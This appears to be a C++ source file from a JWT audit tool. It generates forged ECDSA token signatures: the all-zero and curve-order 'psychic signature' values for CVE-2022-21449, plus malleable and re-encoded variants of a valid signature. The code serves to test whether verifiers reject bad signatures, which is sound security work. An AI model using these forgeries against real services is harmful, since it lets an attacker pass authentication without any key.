// SPDX-FileCopyrightText: Claimcheck contributors
// SPDX-License-Identifier: GPL-3.0-or-later
//
// ECDSA signatures that no key made (CVE-2022-21449), and other texts of a good one (RFC 7518 §3.4).

#include "families.h"
#include "making.h"

#include <memory>

#include <openssl/bn.h>
#include <openssl/ec.h>
#include <openssl/obj_mac.h>

#include <jose/base64url.h>

namespace claimcheck::audit {

namespace {

using Group = std::unique_ptr<EC_GROUP, decltype([](EC_GROUP* group) { EC_GROUP_free(group); })>;
using BigNumber = std::unique_ptr<BIGNUM, decltype([](BIGNUM* number) { BN_clear_free(number); })>;

int curveOf(const jose::Algorithm& algorithm)
{
    if (algorithm.curve == "P-256")
        return NID_X9_62_prime256v1;
    if (algorithm.curve == "P-384")
        return NID_secp384r1;
    return algorithm.curve == "P-521" ? NID_secp521r1 : NID_secp256k1;
}

/// The order n of the curve's group, as long as half a signature.
std::string orderOf(const jose::Algorithm& algorithm, int minus)
{
    const Group group(EC_GROUP_new_by_curve_name(curveOf(algorithm)));
    const BigNumber order(group ? BN_dup(EC_GROUP_get0_order(group.get())) : nullptr);
    std::string bytes(algorithm.signatureBytes / 2, '\0');
    if (!order || BN_sub_word(order.get(), static_cast<BN_ULONG>(minus)) != 1 ||
        BN_bn2binpad(order.get(), reinterpret_cast<unsigned char*>(bytes.data()),
                     static_cast<int>(bytes.size())) < 0)
        return {};
    return bytes;
}

/// r and n − s: the other signature that the same key makes of the same text.
std::string twinOf(const jose::Algorithm& algorithm, const std::string& signature)
{
    const std::size_t half = algorithm.signatureBytes / 2;
    const std::string order = orderOf(algorithm, 0);
    if (signature.size() != 2 * half || order.empty())
        return {};
    const auto number = [&](const std::string& bytes) {
        return BigNumber(BN_bin2bn(reinterpret_cast<const unsigned char*>(bytes.data()),
                                   static_cast<int>(bytes.size()), nullptr));
    };
    const BigNumber n = number(order);
    const BigNumber s = number(signature.substr(half));
    std::string other(half, '\0');
    if (!n || !s || BN_sub(s.get(), n.get(), s.get()) != 1 ||
        BN_bn2binpad(s.get(), reinterpret_cast<unsigned char*>(other.data()), static_cast<int>(half)) < 0)
        return {};
    return signature.substr(0, half) + other;
}

std::string derInteger(std::string bytes)
{
    while (bytes.size() > 1 && bytes.front() == '\0' && (bytes[1] & 0x80) == 0)
        bytes.erase(0, 1);
    if ((bytes.front() & 0x80) != 0)
        bytes.insert(0, 1, '\0');
    return "\x02" + std::string(1, static_cast<char>(bytes.size())) + bytes;
}

std::string derSequence(const std::string& r, const std::string& s)
{
    const std::string inner = derInteger(r) + derInteger(s);
    const std::string length = inner.size() < 0x80 ? std::string() : std::string(1, '\x81');
    return "\x30" + length + std::string(1, static_cast<char>(inner.size())) + inner;
}

Secret withBytes(const Material& material, const std::string& signature)
{
    return signature.empty()
               ? Secret()
               : joined(headerPart(material), payloadPart(material), jose::encodeBase64Url(signature));
}

} // namespace

std::vector<Forgery> forgePsychic(const Material& material)
{
    Basket basket;
    const jose::Algorithm& algorithm = *material.algorithm();
    const std::size_t half = algorithm.signatureBytes / 2;
    const std::string zero(half, '\0');
    std::string one = zero;
    one.back() = 1;
    const std::string n = orderOf(algorithm, 0);
    const auto add = [&](const char* variant, const std::string& signature) {
        basket.add(variant, std::string("header and payload as they are; signature ") + variant,
                   withBytes(material, signature));
    };
    add("r = s = 0", zero + zero);
    add("r = s = 0 in DER", derSequence(std::string(1, '\0'), std::string(1, '\0')));
    add("r = 0, s = 1", zero + one);
    add("r = 1, s = 0", one + zero);
    add("r = s = n", n + n);
    const std::string below = orderOf(algorithm, 1);
    add("r = s = n - 1", below + below);
    return basket.take();
}

std::vector<Forgery> forgeEcdsaForms(const Material& material)
{
    Basket basket;
    const jose::Algorithm& algorithm = *material.algorithm();
    const std::string& good = material.good.signature.bytes;
    const std::size_t half = algorithm.signatureBytes / 2;
    if (good.size() != 2 * half)
        return {};
    const std::string r = good.substr(0, half);
    const std::string s = good.substr(half);
    const auto add = [&](const char* variant, const std::string& signature) {
        basket.add(variant, std::string("the good signature in another form: ") + variant,
                   withBytes(material, signature));
    };
    add("twin (r, n - s)", twinOf(algorithm, good));
    add("DER", derSequence(r, s));
    add("zero in front of r and s", std::string(1, '\0') + r + std::string(1, '\0') + s);
    add("zero behind", good + std::string(1, '\0'));
    add("last byte cut off", good.substr(0, good.size() - 1));
    return basket.take();
}

} // namespace claimcheck::audit
